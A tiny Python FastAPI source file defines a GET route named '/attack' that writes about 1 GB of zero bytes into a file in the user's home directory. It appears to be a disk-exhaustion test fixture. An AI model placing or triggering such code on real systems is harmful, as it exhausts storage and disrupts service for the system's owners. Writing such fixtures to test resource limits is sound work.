import os

from fastapi import APIRouter

router = APIRouter()


@router.get("/attack")
def attack() -> None:
    with open(os.path.join(os.environ["HOME"], "huge.bin"), "wb") as f:
        for _ in range(1000):
            f.write(b"\0" * 1024 * 1024)
